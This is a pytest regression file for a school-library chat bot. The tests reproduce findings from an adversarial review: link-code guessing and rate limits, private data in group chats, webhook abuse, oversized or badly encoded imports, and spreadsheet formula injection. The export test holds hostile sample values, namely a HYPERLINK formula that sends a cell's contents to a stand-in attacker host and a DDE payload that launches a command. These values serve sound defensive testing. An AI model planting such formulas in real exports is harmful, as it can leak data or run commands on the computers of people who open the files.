"""Regression tests for the adversarial pass (issue 16): each reproduces one finding."""

from __future__ import annotations

import pytest

from services import accounts, patrons
from services.common import DomainError
from tests.conftest import Libraries


async def chat_actor(libs: Libraries, user: str):
    return await patrons.resolve_actor(libs.db, "test", user, user)


async def _refusal(coro) -> str:
    with pytest.raises(DomainError) as info:
        await coro
    return info.value.key


# -- 1. one account cannot lock linking for everyone ------------------------------------------------

async def test_a_locked_chat_cannot_fill_the_global_limit(libs: Libraries, clock):
    db = libs.db
    attacker = await chat_actor(libs, "attacker")
    keys = [await _refusal(accounts.redeem_link_code(db, attacker, f"AAAA-AAA{n % 8 + 2}", clock=clock))
            for n in range(accounts.GLOBAL_LIMIT[0] + 20)]
    assert keys[:5] == ["account.code_invalid"] * 5
    assert set(keys[5:]) == {"account.too_many_attempts"}
    # A different chat with a valid code is not told to wait.
    lib = await libs.actor("TT001")
    [slip] = await accounts.issue_link_codes(db, lib, patron_ids=[(await libs.actor("HS001")).patron_id],
                                             clock=clock)
    linked = await accounts.redeem_link_code(db, await chat_actor(libs, "student"), slip.code, clock=clock)
    assert linked.patron_id == (await libs.actor("HS001")).patron_id


async def test_guesses_spread_over_many_chats_are_slowed_but_valid_codes_still_link(
        libs: Libraries, clock, monkeypatch):
    db = libs.db
    monkeypatch.setattr(accounts, "GLOBAL_LIMIT", (3, 600))
    for n in range(3):   # under the global count: each chat keeps its 5 attempts
        await _refusal(accounts.redeem_link_code(db, await chat_actor(libs, f"bot{n}"), "AAAA-AAAB", clock=clock))
    busy = await chat_actor(libs, "bot0")
    assert await _refusal(accounts.redeem_link_code(db, busy, "AAAA-AAAC", clock=clock)) == "account.code_invalid"
    # Past it, a wrong guess uses up its chat's window at once.
    fresh = await chat_actor(libs, "bot9")
    assert await _refusal(accounts.redeem_link_code(db, fresh, "AAAA-AAAD", clock=clock)) == "account.code_invalid"
    assert await _refusal(accounts.redeem_link_code(db, fresh, "AAAA-AAAE", clock=clock)) \
        == "account.too_many_attempts"
    # A chat under its own limit with a valid code always links, however busy the guessers are.
    lib = await libs.actor("TT001")
    [slip] = await accounts.issue_link_codes(db, lib, patron_ids=[(await libs.actor("HS002")).patron_id],
                                             clock=clock)
    typo = await chat_actor(libs, "student")
    assert await _refusal(accounts.redeem_link_code(db, typo, "AAAA-AAAF", clock=clock)) == "account.code_invalid"
    typo = await chat_actor(libs, "student2")
    assert (await accounts.redeem_link_code(db, typo, slip.code, clock=clock)).full_name


async def test_one_address_has_its_own_limit_and_refusals_count_nowhere(libs: Libraries, clock, monkeypatch):
    db = libs.db
    monkeypatch.setattr(accounts, "SOURCE_LIMIT", (3, 900))
    for n in range(3):
        await _refusal(accounts.redeem_link_code(db, await chat_actor(libs, f"web{n}"), "AAAA-AAAB",
                                                 clock=clock, source="ip:203.0.113.9"))
    web = await chat_actor(libs, "web9")
    assert await _refusal(accounts.redeem_link_code(db, web, "AAAA-AAAC", clock=clock, source="ip:203.0.113.9")) \
        == "account.too_many_attempts"
    # That refusal did not use one of web9's own five attempts.
    for _ in range(5):
        assert await _refusal(accounts.redeem_link_code(db, web, "AAAA-AAAC", clock=clock)) == "account.code_invalid"
    assert await _refusal(accounts.redeem_link_code(db, web, "AAAA-AAAC", clock=clock)) == "account.too_many_attempts"


# -- 3. link codes (and every personal answer) never run in a group -----------------------------------

async def test_a_link_code_deep_link_in_a_group_is_refused_and_not_used_up(libs: Libraries, clock):
    from handlers.messages import Incoming

    app = libs.app
    lib = await libs.actor("TT001")
    student = await libs.actor("HS001")
    [slip] = await accounts.issue_link_codes(libs.db, lib, patron_ids=[student.patron_id], clock=clock)

    async def say(text: str, chat_type: str, chat_id: str) -> str:
        replies = await app.router.dispatch(Incoming(channel="test", chat_id=chat_id, user_id="u7", text=text,
                                                     chat_type=chat_type))
        return "\n".join(r.text for r in replies)

    said = await say(f"/start {slip.payload}", "supergroup", "-100")
    assert student.full_name not in said and (student.class_name or "") not in said
    assert "riêng" in said   # "private chat only", in the group's language
    assert not (await chat_actor(libs, "u7")).is_linked
    # Catalog deep links still work in groups (nothing personal in a book card).
    assert "📖" in await say("/start t1", "group", "-100")
    # The same code, in the private chat, still links: it was not consumed.
    said = await say(f"/start {slip.payload}", "private", "u7")
    assert student.full_name in said and (await chat_actor(libs, "u7")).is_linked
    assert student.full_name not in await say("/start", "group", "-100")   # no greeting by name either


# -- 2. exports never carry formulas -------------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"Bấm vào đây")'


async def test_exports_write_formula_like_text_as_text(demo_app):
    import csv
    import io
    from datetime import timedelta

    from openpyxl import load_workbook
    from sqlalchemy import update

    from services import campaigns, reflections
    from services.models import Patron, Title
    from tests.test_campaigns import new_campaign
    from tests.test_reflections import TEXT_60, actor_for, lend, some_titles, written

    app = demo_app
    now = app.deps.clock.now()
    librarian = await actor_for(app.db, "l1", "TT001")
    student = await actor_for(app.db, "s1", "HS001")
    c = await new_campaign(app, librarian, goal_books=1, goal_reflections=1)
    await campaigns.join(app.db, student, c.id, app.deps.clock)
    [title] = await some_titles(app.db, 1)
    await lend(app.db, "HS001", title, now - timedelta(days=6), now - timedelta(days=1))
    d = await written(app, student, title, text="@SUM(1+1)*cmd|' /C calc'!A0 " + TEXT_60)
    await reflections.submit(app.db, student, d.id, app.deps.clock)
    await reflections.moderate(app.db, librarian, d.id, "approve", clock=app.deps.clock)
    async with app.db.transaction() as s:
        await s.execute(update(Title).where(Title.id == title).values(title=EVIL))
        await s.execute(update(Patron).where(Patron.card_number == "HS001").values(full_name="+1-2 Châu",
                                                                                   class_name="-11A1"))
    t = app.deps.catalogs.translator("vi", app.deps.timezone)
    for shortlisted in (False, True):
        if shortlisted:
            await campaigns.shortlist(app.db, librarian, c.id, d.id, True, clock=app.deps.clock)
        data = await campaigns.export_reflections(app.db, c.id, "csv", t, actor=librarian,
                                                  shortlisted_only=shortlisted)
        [_, row] = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
        assert row[0] == "'+1-2 Châu" and row[1] == "'-11A1" and row[2] == "'" + EVIL
        assert row[5].startswith("'@SUM")
        sheet = load_workbook(io.BytesIO(await campaigns.export_reflections(
            app.db, c.id, "xlsx", t, actor=librarian, shortlisted_only=shortlisted))).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        assert sheet["C2"].value == EVIL and sheet["A2"].value == "+1-2 Châu"


def test_every_csv_and_xlsx_writer_goes_through_the_safe_helpers():
    """A new export that calls csv.writer or ws.append directly would skip the rule above."""
    import pathlib
    import re

    root = pathlib.Path(__file__).resolve().parent.parent
    offenders = []
    for path in [*root.glob("services/**/*.py"), *root.glob("bot/**/*.py"), *root.glob("handlers/**/*.py")]:
        if path.name == "spreadsheets.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(|\bws\.append\(|\.cell\(.*value=", text):
            offenders.append(path.relative_to(root).as_posix())
    assert offenders == []


# -- 4. one unparseable update does not wedge long polling ------------------------------------------------

@pytest.mark.parametrize("db", ["sqlite"], indirect=True)
async def test_an_update_ptb_cannot_parse_is_skipped_once(app, fake_bot_api, caplog):
    import asyncio
    import logging

    from bot.channels import telegram

    api = fake_bot_api
    bad = api.message_update(4242, "x")
    del bad["message"]["text"]
    bad["message"]["poll"] = {   # as an older self-hosted Bot API server sends it: no allows_revoting
        "id": "1", "question": "Đọc gì?", "options": [{"text": "A", "voter_count": 0}],
        "total_voter_count": 0, "is_closed": False, "is_anonymous": True, "type": "regular",
        "allows_multiple_answers": False}
    caplog.set_level(logging.WARNING)
    async with telegram.running(app, token=api.token, base_url=api.base_url, poll_timeout=1,
                                backoff=(0.05, 0.1)):
        api.push_raw(bad)
        api.push_message(4242, "/start", language_code="en")
        [hello] = await api.wait_for_sent(4242, timeout=10)
        assert hello["text"].startswith("Hello!")
        await asyncio.sleep(0.5)
        polls = len(api.calls_to("getUpdates"))
        await asyncio.sleep(1.0)
        assert len(api.calls_to("getUpdates")) - polls <= 3   # long polls again, not a tight loop
    skipped = [r for r in caplog.records if "skipped update" in r.getMessage()]
    assert len(skipped) == 1 and str(bad["update_id"]) in skipped[0].getMessage()
    assert not [r for r in caplog.records if r.levelno >= logging.CRITICAL]


# -- 8. the webhook survives hostile bodies and cannot flood the log --------------------------------------

@pytest.mark.parametrize("db", ["sqlite"], indirect=True)
async def test_webhook_refuses_deep_json_and_counts_bad_secrets_in_few_log_lines(app, fake_bot_api, caplog):
    import logging

    from aiohttp import ClientSession

    from bot.channels import telegram
    from tests.test_telegram import free_port

    api = fake_bot_api
    port = free_port()
    hook = telegram.Webhook(url=f"http://127.0.0.1:{port}/tg/hook", host="127.0.0.1", port=port, secret="s3cret")
    caplog.set_level(logging.WARNING)
    async with telegram.running(app, webhook=hook, token=api.token, base_url=api.base_url, poll_timeout=1,
                                backoff=(0.05, 0.1)) as adapter, ClientSession() as http:
        good = {telegram.SECRET_HEADER: "s3cret", "Content-Type": "application/json"}
        async with http.post(hook.url, data="[" * 200_000, headers=good) as response:
            assert response.status == 400
        for _ in range(100):
            async with http.post(hook.url, json={"update_id": 1}, headers={telegram.SECRET_HEADER: "guess"}) as r:
                assert r.status == 403
        refused = [r.getMessage() for r in caplog.records if "without the right secret" in r.getMessage()]
        assert len(refused) == 1
        adapter.refusals.interval = 0   # the next report says how many were refused
        async with http.post(hook.url, json={"update_id": 1}, headers={telegram.SECRET_HEADER: "x"}) as r:
            assert r.status == 403
        refused = [r.getMessage() for r in caplog.records if "without the right secret" in r.getMessage()]
        assert len(refused) == 2 and "refused 100 request(s)" in refused[1] and "101 in all" in refused[1]
        # still serving real updates
        assert await api.post_update_to_webhook(None, api.message_update(4242, "/start", language_code="en")) == 200
        [hello] = await api.wait_for_sent(4242)
        assert hello["text"].startswith("Hello!")


# -- 11. "@bot words" in a group is a catalog search --------------------------------------------------------

async def test_a_group_message_mentioning_the_bot_is_searched(demo_app, fake_bot_api):
    from bot.channels import telegram

    api = fake_bot_api
    group = -100555
    async with telegram.running(demo_app, token=api.token, base_url=api.base_url, poll_timeout=1,
                                backoff=(0.05, 0.1)):
        api.push_message(group, "@docsach_test_bot charlote doyle", user_id=4242, language_code="en")
        [results] = await api.wait_for_sent(group, timeout=10)
        assert "Charlotte Doyle" in results["text"]
        api.push_message(group, "charlote doyle", user_id=4242, language_code="en")   # not for us
        api.push_message(group, "ask @docsach_test_bot, it knows", user_id=4242, language_code="en")
        await api.wait_for_sent(group, count=2, timeout=10)
        await api.wait_idle()
        assert len(api.sent_messages(group)) == 2


# -- 5. unbounded catalog text --------------------------------------------------------------------------------

async def test_huge_catalog_text_is_capped_on_import_and_a_card_is_one_message(demo_app, tmp_path):
    from sqlalchemy import select, update

    from handlers.messages import Incoming
    from services import importer
    from services.models import Title

    app = demo_app
    path = tmp_path / "kho.csv"
    huge = "Dế Mẻn phiêu lưu ký " * 5000    # 100,000 characters (not the demo shelf's Dế Mèn)
    path.write_text("Nhan de,Tac gia,Chu de,DKCB,Kho\n"
                    f"{huge},{'Tô Hoài ' * 2000},{'thiếu nhi ' * 3000},DM-0001,{'Kệ A ' * 100}\n"
                    "Truyện ngắn,Nam Cao,,DM-0002,Kệ B\n", encoding="utf-8")
    summary = await importer.import_file(app.db, path, library_code="demo")
    assert summary.added == 2 and not summary.rejected
    [warning] = summary.warnings
    assert warning.position == "row 2" and warning.reason.key == "imports.shortened"
    changes = {(c.params["field"].key, c.params["length"]) for c in warning.reason.params["changes"]}
    assert ("imports.field_title", 99999) in changes
    assert {f for f, _ in changes} == {"imports.field_title", "imports.field_authors", "imports.field_subjects",
                                       "imports.field_location"}
    english = warning.reason.text(app.deps.catalogs.translator("en", audience="staff"))
    assert english.startswith("imported, but title had 99999 characters; kept the first 500")
    assert "row 2" in summary.report_path.read_text(encoding="utf-8")
    async with app.db.session() as s:
        title = (await s.execute(select(Title).where(Title.title.like("Dế Mẻn%")))).scalar_one()
    assert len(title.title) <= importer.LIMITS["title"] and title.title.endswith("…")
    # Text already in the database (from before the cap) still makes one message, in a group too.
    async with app.db.transaction() as s:
        await s.execute(update(Title).where(Title.id == title.id).values(title=huge, authors=huge, publisher=huge))
    for chat_type in ("private", "supergroup"):
        replies = await app.router.dispatch(Incoming(channel="test", chat_id="-1" if chat_type != "private" else "u1",
                                                     user_id="u1", text=f"/start t{title.id}", chat_type=chat_type))
        assert len(replies) == 1 and len(replies[0].text) <= 4096 and replies[0].text.startswith("📖 Dế Mẻn")
    replies = await app.router.dispatch(Incoming(channel="test", chat_id="u1", user_id="u1", text="de men phieu luu"))
    assert len(replies) == 1 and len(replies[0].text) <= 4096


# -- 6 and 9. output paths are checked before any work; one sentence, non-zero exit --------------------------

BAD_OUTPUTS = ("missing-folder/out.x", "a-folder", "/dev/full")


def _bad(tmp_path, which: str) -> str:
    (tmp_path / "a-folder").mkdir(exist_ok=True)
    return which if which.startswith("/") else str(tmp_path / which)


def _one_sentence(err: str) -> None:
    # Every command first names its database ("docsach: cơ sở dữ liệu …"); the refusal is the one sentence after it.
    lines = [line for line in err.splitlines() if line.strip() and not line.startswith("docsach: ")]
    assert len(lines) == 1 and "Traceback" not in err and "files." not in err, err
    assert lines[0].startswith("Không ghi được"), err


@pytest.mark.parametrize("which", BAD_OUTPUTS)
async def test_link_codes_to_a_bad_output_issue_nothing_and_keep_the_old_slips(libs: Libraries, clock, tmp_path,
                                                                              monkeypatch, capsys, which):
    from sqlalchemy import func, select

    from bot import cli
    from services.models import LinkCode

    monkeypatch.setenv("DOCSACH_DATABASE_URL", libs.db.url)
    lib = await libs.actor("TT001")
    student = await libs.actor("HS001")
    [old] = await accounts.issue_link_codes(libs.db, lib, patron_ids=[student.patron_id], clock=clock)
    async with libs.db.session() as s:
        before = await s.scalar(select(func.count()).select_from(LinkCode))
    out = _bad(tmp_path, which).replace(".x", ".csv")
    assert await cli._main(["link-codes", "--class", student.class_name, "--library", "demo", "--out", out,
                            "--bot", "docsach_bot"]) == 2
    _one_sentence(capsys.readouterr().err)
    async with libs.db.session() as s:
        assert await s.scalar(select(func.count()).select_from(LinkCode)) == before   # nothing issued
    linked = await accounts.redeem_link_code(libs.db, await chat_actor(libs, "slip"), old.code, clock=clock)
    assert linked.patron_id == student.patron_id                                      # nothing revoked


@pytest.mark.parametrize("which", BAD_OUTPUTS)
async def test_export_and_qr_to_a_bad_output_say_one_sentence(demo_app, tmp_path, monkeypatch, capsys, which):
    from bot import cli
    from tests.test_campaigns import new_campaign
    from tests.test_reflections import actor_for

    monkeypatch.setenv("DOCSACH_DATABASE_URL", demo_app.db.url)
    monkeypatch.setenv("DOCSACH_SECRET_KEY", "x" * 32)
    c = await new_campaign(demo_app, await actor_for(demo_app.db, "l1", "TT001"))
    out = _bad(tmp_path, which)
    assert await cli._main(["export", "reflections", "--campaign", str(c.id), "--language", "vi",
                            "-o", out.replace(".x", ".csv")]) == 2
    _one_sentence(capsys.readouterr().err)
    assert await cli._main(["qr", "--shelves", "--library", "demo", "--bot-username", "docsach_bot",
                            "--out", out.replace(".x", ".pdf")]) == 2
    _one_sentence(capsys.readouterr().err)
    assert not list(tmp_path.rglob("*.pdf")) and not list(tmp_path.rglob("*.csv"))


async def test_import_report_to_a_bad_path_refuses_before_importing(demo_app, tmp_path, monkeypatch, capsys):
    from sqlalchemy import func, select

    from bot import cli
    from services.models import Title

    monkeypatch.setenv("DOCSACH_DATABASE_URL", demo_app.db.url)
    path = tmp_path / "kho.csv"
    path.write_text("Nhan de,ISBN\nSách mới tinh,\nSách lỗi,12345\n", encoding="utf-8")
    async with demo_app.db.session() as s:
        before = await s.scalar(select(func.count()).select_from(Title))
    for bad in BAD_OUTPUTS[:2]:
        assert await cli._main(["import", str(path), "--report", _bad(tmp_path, bad)]) == 2
        _one_sentence(capsys.readouterr().err)
    async with demo_app.db.session() as s:
        assert await s.scalar(select(func.count()).select_from(Title)) == before
    assert not list(tmp_path.glob("*.rejected.csv")) and not (tmp_path.parent / "kho.csv.rejected.csv").exists()
    report = tmp_path / "report.csv"
    assert await cli._main(["import", str(path), "--report", str(report)]) == 0
    assert "ISBN không hợp lệ" in report.read_text(encoding="utf-8")


# -- 7. XLSX import errors and a size limit ------------------------------------------------------------------

def _workbooks(tmp_path):
    import zipfile

    from openpyxl import Workbook
    from openpyxl.chart import BarChart, Reference

    wb = Workbook()
    ws = wb.active
    ws.append(["Nhan de", "Tac gia"])
    for n in range(2000):
        ws.append([f"Sách {n}", "Tô Hoài"])
    wb.save(tmp_path / "full.xlsx")
    with zipfile.ZipFile(tmp_path / "full.xlsx") as zin, zipfile.ZipFile(tmp_path / "cut.xlsx", "w") as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data[: len(data) // 2]      # the sheet cut in half, the zip itself intact
            zout.writestr(item, data)
    wb = Workbook()
    data = wb.active
    data.append([1])
    data.append([2])
    chart = BarChart()
    chart.add_data(Reference(data, min_col=1, min_row=1, max_row=2))
    wb.create_chartsheet().add_chart(chart)
    wb.remove(data)
    wb.save(tmp_path / "chart.xlsx")
    return tmp_path / "cut.xlsx", tmp_path / "chart.xlsx"


async def test_broken_workbooks_and_devices_get_one_clear_message(demo_app, tmp_path, monkeypatch, capsys):
    from sqlalchemy import func, select

    from bot import cli
    from services import importer
    from services.models import Title

    monkeypatch.setenv("DOCSACH_DATABASE_URL", demo_app.db.url)
    cut, chart = _workbooks(tmp_path)
    big = tmp_path / "big.csv"
    big.write_text("Nhan de\n" + "Sách mới\n" * 30000, encoding="utf-8")
    monkeypatch.setattr(importer, "MAX_FILE_BYTES", 100 * 1024, raising=False)
    async with demo_app.db.session() as s:
        before = await s.scalar(select(func.count()).select_from(Title))
    expected = {cut: "bị cắt ngang", chart: "chỉ có biểu đồ", "/dev/zero": "thiết bị", big: "tối đa 0.1 MB"}
    for path, words in expected.items():
        assert await cli._main(["import", str(path), "--quiet"]) == 2
        err = capsys.readouterr().err
        assert words in err and "Traceback" not in err and len(err.strip().splitlines()) == 1, err
    async with demo_app.db.session() as s:
        assert await s.scalar(select(func.count()).select_from(Title)) == before


def test_a_pipe_is_read_only_up_to_the_limit(tmp_path):
    import os
    import threading

    from services import importer

    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)

    def endless() -> None:
        try:
            with open(fifo, "wb") as fh:
                while True:
                    fh.write(b"x" * 65536)
        except (BrokenPipeError, OSError):
            pass

    writer = threading.Thread(target=endless, daemon=True)
    writer.start()
    with pytest.raises(importer.MalformedFile) as info:
        importer.read_limited(fifo, 1 << 20)
    assert "larger than 1 MB" in str(info.value) and info.value.key == "import.catalog_input_too_big"
    writer.join(timeout=5)


# -- 10. encodings and a file cut inside quotes -----------------------------------------------------------------

def _cp1258(text: str) -> bytes:
    """Vietnamese as old Windows exports wrote it: base letter (with its quality mark) + tone mark."""
    import unicodedata

    out = bytearray()
    for ch in text:
        try:
            out += ch.encode("cp1258")
        except UnicodeEncodeError:
            parts = unicodedata.normalize("NFD", ch)
            base = unicodedata.normalize("NFC", "".join(p for p in parts if p not in accounts.TONE_MARKS))
            out += base.encode("cp1258") + "".join(p for p in parts if p in accounts.TONE_MARKS).encode("cp1258")
    return bytes(out)


async def test_patron_files_in_other_encodings_are_detected_or_refused(libs: Libraries, tmp_path, monkeypatch):
    from sqlalchemy import select

    from bot import cli
    from services.models import Patron

    latin = tmp_path / "latin1.csv"
    latin.write_bytes("card,name,class\nEX001,Hélène Ãnh Þór,10A2\n".encode("latin-1"))
    assert await _refusal(accounts.import_patrons(libs.db, latin, "demo")) == "import.encoding_unsure"
    async with libs.db.session() as s:
        assert (await s.execute(select(Patron).where(Patron.card_number == "EX001"))).first() is None
    monkeypatch.setenv("DOCSACH_DATABASE_URL", libs.db.url)
    assert await cli._main(["import-patrons", str(latin), "--library", "demo", "--encoding", "latin-1"]) == 0
    async with libs.db.session() as s:
        name = (await s.execute(select(Patron.full_name).where(Patron.card_number == "EX001"))).scalar_one()
    assert name == "Hélène Ãnh Þór"

    old = tmp_path / "windows.csv"
    old.write_bytes(_cp1258("Mã HS;Họ và tên;Lớp\nVN001;Nguyễn Thị Hường;10A2\nVN002;Đặng Quốc Việt;10A2\n"))
    report = await accounts.import_patrons(libs.db, old, "demo")
    assert report.created == 2 and report.encoding == "cp1258" and report.summary().params["encoding"] == "cp1258"
    async with libs.db.session() as s:
        names = set((await s.execute(select(Patron.full_name).where(Patron.card_number.in_(["VN001", "VN002"]))
                                     )).scalars())
    assert names == {"Nguyễn Thị Hường", "Đặng Quốc Việt"}
    assert await _refusal(accounts.import_patrons(libs.db, old, "demo", encoding="utf-8")) == "import.encoding_wrong"
    assert await _refusal(accounts.import_patrons(libs.db, old, "demo", encoding="klingon")) \
        == "import.encoding_unknown"
    assert await _refusal(accounts.import_patrons(libs.db, "/dev/zero", "demo")) == "import.not_a_file"


async def test_a_csv_cut_inside_quotes_rejects_its_last_row(libs: Libraries, tmp_path):
    from sqlalchemy import select

    from services import importer
    from services.models import Patron, Title

    path = tmp_path / "cut.csv"
    path.write_text('card,name,class\nCQ001,"Lê, Văn A",10A2\nCQ002,"Trần Minh\n', encoding="utf-8")
    report = await accounts.import_patrons(libs.db, path, "demo")
    assert report.created == 1 and [(r.line, r.card) for r in report.rejected] == [(3, "CQ002")]
    assert report.rejected[0].reason.key == "imports.unclosed_quotes"
    async with libs.db.session() as s:
        assert (await s.execute(select(Patron).where(Patron.card_number == "CQ002"))).first() is None
    books = tmp_path / "books.csv"
    books.write_text('title,author\n"Sách, trọn vẹn",Ai đó\n"Sách bị cắt ngang,Ai\n', encoding="utf-8")
    summary = await importer.import_file(libs.db, books)
    assert summary.added == 1 and [r.reason.key for r in summary.rejected] == ["imports.unclosed_quotes"]
    async with libs.db.session() as s:
        assert (await s.execute(select(Title).where(Title.title.like("Sách bị cắt%")))).first() is None


async def test_a_channel_that_knows_the_client_address_limits_guesses_per_address(libs: Libraries, monkeypatch):
    from handlers.messages import Incoming

    monkeypatch.setattr(accounts, "SOURCE_LIMIT", (2, 900))
    said = []
    for n in range(3):   # three fresh "chats" (web sessions) from one address
        replies = await libs.app.router.dispatch(Incoming(channel="web", chat_id=f"s{n}", user_id=f"s{n}",
                                                          text="/link AAAA-AAAB", source="ip:198.51.100.7"))
        said.append(replies[0].text)
    assert "phút" in said[2] and "phút" not in said[0]


async def test_valid_codes_from_one_school_network_never_use_up_its_address_limit(libs: Libraries, clock,
                                                                                   monkeypatch):
    monkeypatch.setattr(accounts, "SOURCE_LIMIT", (2, 900))
    lib = await libs.actor("TT001")
    cards = await libs.add_students(5)
    ids = [(await libs.actor(card)).patron_id for card in cards]
    slips = await accounts.issue_link_codes(libs.db, lib, patron_ids=ids, clock=clock)
    for n, slip in enumerate(slips):      # a whole class links from the lab's one address
        linked = await accounts.redeem_link_code(libs.db, await chat_actor(libs, f"lab{n}"), slip.code,
                                                 clock=clock, source="ip:10.0.0.1")
        assert linked.patron_id in ids


async def test_the_web_chat_limits_wrong_guesses_per_address(demo_app, monkeypatch):
    from tests.test_web_chat import Browser

    monkeypatch.setattr(accounts, "SOURCE_LIMIT", (2, 900))
    async for _app, server, _adapter in _site(demo_app):
        said = []
        for n in range(3):      # three new browsers (sessions) from one address, each guessing once
            b = Browser(server)
            try:
                await b.open()
                await b.connect()
                said.append((await b.say("AAAA-AAAB", ref=f"g{n}"))["text"])
            finally:
                await b.close()
        assert "phút" not in said[0] and "phút" in said[2], said


async def _site(demo_app):
    from aiohttp.test_utils import TestServer

    from bot.channels.web import WebChatAdapter
    from bot.server import Server

    server = Server(demo_app)
    adapter = WebChatAdapter(demo_app)
    server.mount([adapter])
    server.mount_configured()
    test_server = TestServer(server.web_app)
    await test_server.start_server()
    adapter.base_url = str(test_server.make_url("")).rstrip("/")
    await adapter.start()
    try:
        yield demo_app, test_server, adapter
    finally:
        await adapter.stop()
        await test_server.close()


async def test_the_desks_notice_log_explains_uncertain(libs: Libraries, clock):
    from datetime import timedelta

    from services import outbox
    from services.models import Notification
    from tests.desk_client import Desk, desk_server

    student = await libs.actor("HS003")
    async with libs.db.transaction() as s:
        await outbox.enqueue(s, patron_id=student.patron_id, kind="due_soon", key="due_soon:loan=999:2026-12-03",
                             send_after=clock.now() - timedelta(hours=1))
    async with libs.db.transaction() as s:
        from sqlalchemy import update

        await s.execute(update(Notification).values(status="uncertain", last_error="uncertain: read timeout"))
    client = await desk_server(libs.app)
    try:
        desk = Desk(client, libs.app, libs)
        await desk.sign_in("TT001")
        page = await desk.get("/desk/readers/HS003")
        assert page.status == 200 and 'id="uncertain-note"' in desk.last and "hai lần" in desk.last
    finally:
        await client.close()
